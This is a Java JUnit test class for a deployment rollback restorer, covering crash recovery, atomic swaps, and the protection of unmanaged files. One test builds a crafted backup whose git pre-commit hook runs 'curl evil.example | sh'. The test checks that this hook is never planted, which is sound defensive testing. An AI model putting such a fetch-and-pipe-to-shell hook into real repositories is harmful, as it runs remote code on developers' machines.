package dev.rewind.executor.rollback;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.rewind.executor.archive.ArchiveReader;
import dev.rewind.executor.archive.ArchiveWriter;
import dev.rewind.executor.archive.TreeSelection;
import dev.rewind.executor.config.DeploymentTarget;
import dev.rewind.testing.WorkflowTrees;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Step 2.3 resumed from each state a crash can leave it in: during extraction, between the two renames,
 * after the swap. Whatever the state, the end is the complete good tree at the target and the complete
 * broken tree beside it, and the target was never a mix of the two.
 */
class RestorerTest {
    static final TreeSelection RUNBOOK = new TreeSelection(DeploymentTarget.Backups.RUNBOOK_INCLUDE, DeploymentTarget.Backups.RUNBOOK_EXCLUDE);

    @TempDir
    Path dir;
    Path target;
    Path backup;
    Map<String, String> good;
    Map<String, String> broken;
    Restorer restorer;

    @BeforeEach
    void trees() throws IOException {
        Path v1 = WorkflowTrees.create(dir.resolve("v1"), "1.0.0");
        backup = dir.resolve("wf-v1.0.0-backup.tar.gz");
        ArchiveWriter.write(v1, RUNBOOK, backup);
        good = managedContents(v1);
        target = WorkflowTrees.create(dir.resolve("srv/wf"), "2.0.0");
        Files.writeString(target.resolve("agents/only-in-v2.md"), "new agent");
        broken = managedContents(target);
        restorer = new Restorer(target, "abcd1234");
    }

    @Test
    void a_crash_during_extraction_leaves_the_target_whole_and_the_resumed_step_starts_the_staging_again() throws Exception {
        Path staging = stagingOf(target);
        Files.createDirectories(staging.resolve("agents"));
        Files.writeString(staging.resolve("agents/half-writ"), "partial");

        assertThat(managedContents(target)).isEqualTo(broken);
        restorer.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        assertRestored();
    }

    @Test
    void a_crash_between_the_renames_is_finished_without_extracting_again() throws Exception {
        Path staging = stagingOf(target);
        ArchiveReader.extract(backup, staging, ArchiveReader.Limits.DEFAULT);
        linkUnmanaged(target, staging);
        Files.move(target, restorer.brokenTree(), StandardCopyOption.ATOMIC_MOVE);
        Files.delete(backup); // were it extracted again, this would fail

        restorer.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        assertRestored();
    }

    @Test
    void the_swap_exchanges_staging_and_target_in_one_step_so_the_target_path_is_never_absent() throws Exception {
        restorer.stage(backup, null, RUNBOOK, ArchiveReader.Limits.DEFAULT);
        Object stagedInode = Files.getAttribute(stagingOf(target), "unix:ino");

        Map<String, String> outputs = restorer.swapIn(RUNBOOK);

        assertThat(outputs).containsEntry("swap", "exchange");
        assertThat(Files.getAttribute(target, "unix:ino")).as("the staged directory itself is now the target").isEqualTo(stagedInode);
        assertRestored();
        assertThat(target.resolveSibling("wf.rewind-swap-abcd1234")).as("the swap's intent is gone once it is done").doesNotExist();
    }

    @Test
    void a_crash_between_the_exchange_and_the_set_aside_resumes_to_the_restored_tree_and_never_drops_the_broken_one() throws Exception {
        Restorer crashing = new Restorer(target, "abcd1234", () -> {
            throw new IllegalStateException("killed here");
        });
        assertThatThrownBy(() -> crashing.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT)).hasMessage("killed here");
        assertThat(managedContents(target)).as("at the crash: the restored tree, whole").isEqualTo(good);
        assertThat(managedContents(stagingOf(target))).as("the broken tree, whole, still under the staging name").isEqualTo(broken);

        Restorer resumed = new Restorer(target, "abcd1234");
        assertThat(resumed.state()).isEqualTo(RollbackDecider.Target.SWAPPED);
        resumed.dropStaging();
        assertThat(managedContents(stagingOf(target))).as("dropping a staging never drops the broken tree").isEqualTo(broken);
        Files.delete(backup); // were it extracted again, this would fail
        resumed.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        assertRestored();
    }

    @Test
    void where_no_exchange_is_possible_two_renames_swap_and_a_crash_between_them_resumes() throws Exception {
        Restorer crashing = new Restorer(target, "abcd1234", () -> {
            throw new IllegalStateException("killed here");
        }, false);
        assertThatThrownBy(() -> crashing.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT)).hasMessage("killed here");
        assertThat(target).as("between two renames there is no target").doesNotExist();
        assertThat(managedContents(restorer.brokenTree())).isEqualTo(broken);

        Map<String, String> outputs = new Restorer(target, "abcd1234", () -> { }, false).swapIn(RUNBOOK);

        assertThat(outputs).containsEntry("swap", "two renames");
        assertRestored();
    }

    @Test
    void the_unmanaged_part_after_the_swap_is_the_one_at_stop_time_whatever_the_workload_did_after_staging() throws Exception {
        Files.createDirectories(target.resolve("data/cache"));
        Files.writeString(target.resolve("data/state.json"), "{\"n\":1}");
        Files.writeString(target.resolve("data/cache/entry"), "cached");
        Files.writeString(target.resolve("data/lock"), "pid 42");
        restorer.stage(backup, null, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        // what the running workload does between staging and its stop
        Files.writeString(target.resolve("data/created-after-staging.txt"), "new");
        Path replacement = target.resolve("data/state.json.tmp");
        Files.writeString(replacement, "{\"n\":2}");
        Files.move(replacement, target.resolve("data/state.json"), StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
        Files.delete(target.resolve("data/lock"));
        Files.writeString(target.resolve(".git/objects/ab/cdef"), " appended in place", java.nio.file.StandardOpenOption.APPEND);
        Files.delete(target.resolve("data/cache/entry"));
        Files.delete(target.resolve("data/cache"));
        Files.writeString(target.resolve("data/cache"), "a directory became a file");
        Files.delete(target.resolve("node_modules/pkg/index.js"));
        Files.createSymbolicLink(target.resolve("data/current"), Path.of("state.json"));
        Map<String, byte[]> atStop = unmanagedBytes(target);

        Map<String, String> outputs = restorer.swapIn(RUNBOOK);

        Map<String, byte[]> after = unmanagedBytes(target);
        assertThat(after.keySet()).isEqualTo(atStop.keySet());
        atStop.forEach((path, bytes) -> assertThat(after.get(path)).as(path).isEqualTo(bytes));
        assertThat(Files.readSymbolicLink(target.resolve("data/current"))).isEqualTo(Path.of("state.json"));
        assertThat(target.resolve("data/lock")).doesNotExist();
        assertThat(target.resolve("node_modules/pkg/index.js")).doesNotExist();
        assertThat(outputs).containsEntry("unmanagedAdded", "2").containsEntry("unmanagedReplaced", "2").containsEntry("unmanagedRemoved", "2");
        assertThat(managedContents(target)).isEqualTo(good);
    }

    @Test
    void a_revert_resumed_after_a_crash_between_its_renames_puts_the_broken_tree_back_and_a_repeat_changes_nothing() throws Exception {
        restorer.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);
        Path setAside = target.resolveSibling(target.getFileName() + ".rewind-reverted-20261202-101010");
        Files.move(target, setAside, StandardCopyOption.ATOMIC_MOVE); // the crash: the first rename happened, not the second

        Map<String, String> resumed = restorer.revert("20261202-101010");

        assertThat(resumed).containsEntry("setAside", setAside.toString());
        assertThat(managedContents(target)).isEqualTo(broken);
        assertThat(managedContents(setAside)).isEqualTo(good);
        assertThat(restorer.revert("20261202-101010")).containsEntry("note", "already reverted");
        assertThat(managedContents(target)).isEqualTo(broken);
    }

    @Test
    void a_crash_after_the_swap_makes_the_resumed_step_a_no_op() throws Exception {
        restorer.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);
        Files.delete(backup);

        restorer.restore(backup, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        assertRestored();
    }

    @Test
    void a_backup_without_the_critical_files_never_touches_the_target() throws Exception {
        Path partial = dir.resolve("partial");
        Files.createDirectories(partial.resolve("templates"));
        Files.writeString(partial.resolve("templates/only.md"), "template");
        Path incomplete = dir.resolve("incomplete.tar.gz");
        ArchiveWriter.write(partial, RUNBOOK, incomplete);

        assertThatThrownBy(() -> restorer.restore(incomplete, RUNBOOK, ArchiveReader.Limits.DEFAULT))
                .hasMessageContaining("lacks critical files");

        assertThat(managedContents(target)).isEqualTo(broken);
        assertThat(stagingOf(target)).doesNotExist();
    }

    @Test
    void a_backup_s_entries_under_unmanaged_paths_never_replace_the_live_ones() throws Exception {
        Path crafted = dir.resolve("crafted");
        WorkflowTrees.create(crafted, "1.0.0");
        Files.createDirectories(crafted.resolve(".git/hooks"));
        Files.writeString(crafted.resolve(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil.example | sh\n");
        Files.createDirectories(crafted.resolve("node_modules/left-pad"));
        Files.writeString(crafted.resolve("node_modules/left-pad/index.js"), "module.exports = evil");
        Files.createDirectories(crafted.resolve("agents/node_modules"));
        Files.writeString(crafted.resolve("agents/node_modules/x.js"), "evil");
        Path archive = dir.resolve("crafted.tar.gz");
        // everything in, unmanaged paths too, as a hostile or careless backup would hold them
        ArchiveWriter.write(crafted, new TreeSelection(java.util.List.of(".git/", "node_modules/", "agents/", "steps/", "templates/",
                "checklists/", "DEPLOYMENT/", "config.yaml", "*.md"), java.util.List.of()), archive);
        Map<String, byte[]> unmanagedBefore = unmanagedBytes(target);
        assertThat(unmanagedBefore).isNotEmpty();

        Map<String, String> outputs = restorer.restore(archive, RUNBOOK, ArchiveReader.Limits.DEFAULT);

        assertThat(Integer.parseInt(outputs.get("skippedUnmanaged"))).isGreaterThanOrEqualTo(3);
        Map<String, byte[]> unmanagedAfter = unmanagedBytes(target);
        assertThat(unmanagedAfter.keySet()).isEqualTo(unmanagedBefore.keySet());
        unmanagedBefore.forEach((path, bytes) -> assertThat(unmanagedAfter.get(path)).as(path).isEqualTo(bytes));
        assertThat(target.resolve(".git/hooks/pre-commit")).as("the backup's hook is not planted").doesNotExist();
        assertThat(target.resolve("agents/node_modules/x.js")).hasContent("nested unmanaged");
    }

    @Test
    void a_backup_replaced_after_it_was_verified_is_not_put_in_place() throws Exception {
        String verified = ArchiveReader.verify(backup, ArchiveReader.Limits.DEFAULT).sha256();
        Path other = WorkflowTrees.create(dir.resolve("other"), "1.0.0");
        Files.writeString(other.resolve("agents/planted.md"), "planted after 1.3");
        ArchiveWriter.write(other, RUNBOOK, backup);

        assertThatThrownBy(() -> restorer.restore(backup, verified, RUNBOOK, ArchiveReader.Limits.DEFAULT))
                .hasMessageContaining("changed since step 1.3 verified it");

        assertThat(managedContents(target)).isEqualTo(broken);
        assertThat(stagingOf(target)).doesNotExist();
        restorer.restore(backup, ArchiveReader.verify(backup, ArchiveReader.Limits.DEFAULT).sha256(), RUNBOOK, ArchiveReader.Limits.DEFAULT);
        assertThat(target.resolve("agents/planted.md")).exists();
    }

    private static Map<String, byte[]> unmanagedBytes(Path root) throws IOException {
        Map<String, byte[]> contents = new TreeMap<>();
        try (Stream<Path> files = Files.walk(root)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                Path relative = root.relativize(file);
                if (!RUNBOOK.isManaged(relative)) {
                    contents.put(relative.toString(), Files.readAllBytes(file));
                }
            }
        }
        return contents;
    }

    private void assertRestored() throws IOException {
        assertThat(managedContents(target)).isEqualTo(good);
        assertThat(managedContents(restorer.brokenTree())).isEqualTo(broken);
        assertThat(stagingOf(target)).doesNotExist();
        assertThat(target.resolve(".git")).as("the unmanaged part is kept").exists();
    }

    /** What the step does before its renames: the target's unmanaged files, hard-linked into staging. */
    private static void linkUnmanaged(Path from, Path into) throws IOException {
        try (Stream<Path> files = Files.walk(from)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                Path relative = from.relativize(file);
                if (!RUNBOOK.isManaged(relative)) {
                    Files.createDirectories(into.resolve(relative).getParent());
                    Files.createLink(into.resolve(relative), file);
                }
            }
        }
    }

    private static Path stagingOf(Path target) {
        return target.resolveSibling(target.getFileName() + ".rewind-staging-abcd1234");
    }

    /** Path → content of every managed file. */
    private static Map<String, String> managedContents(Path root) throws IOException {
        Map<String, String> contents = new TreeMap<>();
        try (Stream<Path> files = Files.walk(root)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                Path relative = root.relativize(file);
                if (RUNBOOK.isManaged(relative)) {
                    contents.put(relative.toString(), Files.readString(file));
                }
            }
        }
        return contents;
    }
}
